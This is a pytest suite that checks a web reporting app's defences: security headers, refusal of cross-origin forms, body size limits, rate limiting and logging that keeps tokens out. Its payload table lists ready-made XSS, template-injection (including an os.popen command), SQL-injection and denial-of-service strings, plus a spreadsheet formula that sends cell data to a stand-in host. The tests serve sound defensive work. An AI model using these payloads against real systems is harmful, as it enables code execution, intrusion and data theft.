"""Hostile addresses, bodies and pages of others: each gets an answer, none gets anything else."""

import re
import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from structlog.testing import capture_logs

from tests.web.conftest import URL
from web.guards.limits import Buckets

TYPED = {
    "B031": "<script>alert(1)</script>",
    "B033": '"><svg onload=alert(1)>',
    "B034": "x onmouseover=alert(1)",
    "B038": "<style>*{display:none}</style>",
    "B019": "{{7*7}}",
    "B020": "{{ config }}",
    "B021": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "B022": "{% for x in range(10**9) %}{% endfor %}",
    "B024": "{{",
    "B042": "%' OR '1'='1",
    "B044": "id; select pg_sleep(10)",
    "B050": '=HYPERLINK("http://x.test/?"&A1,"klik")',
    "B191": "\u202egnp.exe",
    "B192": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    "nul": "nul\0nul",
    "half a sign": "\ud83d\ude00",
}
NASTY = list(TYPED.values())
POST = settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)


def test_every_answer_carries_the_same_locks(web, daily):
    token, code = web.given("Camat Tamban"), web.desk.code(daily)
    paths = ["/", "/healthz", "/l/x", f"/l/{token}", f"/l/{token}/{code}", "/nothing", "/t/TT-1/x"]

    for page in [web.get(path) for path in paths] + [web.answers(token, daily, answer="nil")]:
        policy = page.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'")
        assert "frame-ancestors 'none'" in policy
        assert "unsafe" not in policy
        assert page.headers["x-content-type-options"] == "nosniff"
        assert page.headers["cache-control"] == "no-store"
        assert page.headers["referrer-policy"] == "same-origin"
        assert "camera=()" in page.headers["permissions-policy"]
        assert page.headers["strict-transport-security"]
        assert "set-cookie" not in page.headers


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.test"},
        {"Origin": "null"},
        {"Origin": "", "Referer": "https://evil.test/desk.example"},
        {"Origin": ""},
        {"Origin": URL, "Sec_Fetch_Site": "cross-site"},
        {"Origin": URL, "Sec_Fetch_Site": "same-site"},
        {"Origin": "https://evil.test", "Host": "evil.test"},
        {"Origin": "http://desk.example"},
    ],
)
def test_a_form_from_elsewhere_is_refused(web, daily, headers):
    code = web.desk.code(daily)

    page = web.post(f"/l/{web.given('Camat Tamban')}/{code}", {"answer": "nil"}, **headers)

    assert page.status_code == 403
    assert web.desk.reports(daily) == []


@pytest.mark.parametrize("headers", [{"Sec_Fetch_Site": "same-origin"}, {"Origin": "", "Referer": f"{URL}/l/x"}])
def test_a_form_of_ours_is_taken_also_from_an_old_browser(web, daily, headers):
    page = web.post(f"/l/{web.given('Camat Tamban')}/{web.desk.code(daily)}", {"answer": "nil"}, **headers)

    assert page.status_code == 200


def test_no_address_comes_from_the_host_header(web, daily):
    token = web.given("Camat Tamban")

    pages = [web.client.get(path, headers={"Host": "evil.test"}) for path in (f"/l/{token}", f"/l/{token}/", "/l//x")]
    filed = web.post(f"/l/{token}/{web.desk.code(daily)}", {"answer": "nil"}, Host="evil.test")

    for page in [*pages, filed]:
        assert "evil.test" not in page.text
        assert "location" not in page.headers


def test_ten_megabytes_are_refused_before_they_are_read(web, daily):
    path = f"/l/{web.given('Camat Tamban')}/{web.desk.code(daily)}"
    read = 0

    def chunks():
        nonlocal read
        for _ in range(160):
            read += 1
            yield b"facts=" + b"x" * 65536

    stated = web.post(path, {"answer": "report", "facts": "x" * 10_000_000})
    chunked = web.client.post(
        path, content=chunks(), headers={"Origin": URL, "Content-Type": "application/x-www-form-urlencoded"}
    )

    assert stated.status_code == chunked.status_code == 413
    assert web.desk.reports(daily) == []


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("application/json", b"{}"),
        ("", b"answer=nil"),
        ("application/x-www-form-urlencoded", b"&".join(b"a=1" for _ in range(500))),
        ("application/x-www-form-urlencoded", b"answer=%FF%00"),
        ("application/x-www-form-urlencoded", b"\xff\xfe"),
        ("multipart/form-data; boundary=x", b"--x"),
    ],
)
def test_a_body_that_is_no_form_is_refused(web, daily, kind, body):
    path = f"/l/{web.given('Camat Tamban')}/{web.desk.code(daily)}"

    page = web.client.post(path, content=body, headers={"Origin": URL, "Content-Type": kind})

    assert page.status_code == 400


@pytest.mark.parametrize("text", NASTY, ids=TYPED)
def test_what_people_type_is_shown_and_kept_and_never_run(web, daily, text):
    path = f"/l/{web.given('Camat Tamban')}/{web.desk.code(daily)}"
    answers = {"answer": "report", "facts": text.encode("utf-8", "replace").decode(), "c.logistik": "safe"}

    wrong = web.post(path, answers | {"n.desa-logistik": "x"})
    page = web.post(path, answers)

    assert wrong.status_code == 422
    assert page.status_code == 200
    for html in (wrong.text, page.text):
        assert not re.search(r"<(script(?! defer src=)|svg)|<style>\*", html)
        assert "49" not in re.sub(r'integrity="[^"]*"|[0-9a-f]{16}', "", html) or "{{7*7}}" not in text
    assert web.desk.reports(daily)[0].body["facts"] == text.replace("\0", "").encode("utf-8", "replace").decode()


@POST
@given(path=st.text(max_size=60))
def test_no_address_makes_a_defect(web, daily, path):
    for prefix in ("/l/", "/t/TT-", "/l/0000000000000000/", "/"):
        assert web.client.get(prefix + quoted(path)).status_code < 500


@POST
@given(
    answers=st.dictionaries(
        st.sampled_from(["answer", "seen", "until", "note", "c.logistik", "n.kejadian", "k.logistik", "facts", "x"])
        | st.text(max_size=8),
        st.sampled_from(["nil", "report", "promise", "not_mine", "safe", "1", "2024-02-07T09:00:00+00:00"])
        | st.text(max_size=40),
        max_size=6,
    )
)
def test_no_form_makes_a_defect(web, daily, answers):
    body = "&".join(f"{quoted(k)}={quoted(v)}" for k, v in answers.items())
    path = f"/l/{web.given('Camat Tamban')}/{web.desk.code(daily)}"

    page = web.client.post(
        path, content=body, headers={"Origin": URL, "Content-Type": "application/x-www-form-urlencoded"}
    )

    assert page.status_code < 500


def quoted(text):
    safe = set(string.ascii_letters + string.digits)
    return "".join(
        sign if sign in safe else "".join(f"%{byte:02X}" for byte in sign.encode("utf-8", "surrogatepass"))
        for sign in text
    )


def test_a_defect_tells_nobody_what_it_saw(web, daily, caplog, capsys, monkeypatch):
    token = web.given("Camat Tamban")
    web.books.forms = {}
    web.books.clock = lambda _: 1 / 0

    page = web.get(f"/l/{token}")
    out = capsys.readouterr()

    assert page.status_code == 503
    assert page.headers["retry-after"]
    assert "sedang ada gangguan" in page.text
    assert token not in page.text + out.out + out.err + caplog.text


def test_nothing_that_is_logged_holds_a_token(web, daily, caplog, capsys):
    token = web.given("Camat Tamban")

    web.get(f"/l/{token}")
    web.answers(token, daily, answer="nil")
    out = capsys.readouterr()

    assert token not in out.out + out.err + caplog.text


def test_who_asks_too_often_waits(web, daily):
    token = web.given("Camat Tamban")

    pages = [web.get(f"/l/{token}") for _ in range(80)]

    assert {page.status_code for page in pages} == {200, 429}
    assert pages[-1].headers["retry-after"]


def test_a_bucket_fills_again_and_forgets_the_oldest():
    now = [0.0]
    buckets = Buckets(a_second=1, burst=2, clock=lambda: now[0])

    assert [buckets.wait("a") for _ in range(3)] == [0, 0, 1]
    assert buckets.wait("b") == 0
    now[0] = 1.0
    assert [buckets.wait("a") for _ in range(2)] == [0, 1]


@pytest.mark.parametrize("address", ["/masuk%00", "/l/%00", "/sekretariat/kontak/%00", "/healthz?a=%00"])
def test_a_nul_in_an_address_is_no_address(web, address):
    assert web.client.get(address).status_code == 404


def test_the_log_says_which_page_failed_and_not_by_which_address(web, daily):
    token = web.given("Camat Tamban")
    with web.desk.rt.sessions.begin() as session:
        session.connection().exec_driver_sql("ALTER TABLE obligation RENAME TO gone")
    with capture_logs() as lines:
        page = web.get(f"/l/{token}")
    with web.desk.rt.sessions.begin() as session:
        session.connection().exec_driver_sql("ALTER TABLE gone RENAME TO obligation")

    (line,) = [line for line in lines if line["event"] == "page failed"]
    assert page.status_code == 503
    assert line["route"] == "web.team.reporting.owed"
    assert token not in str(lines)
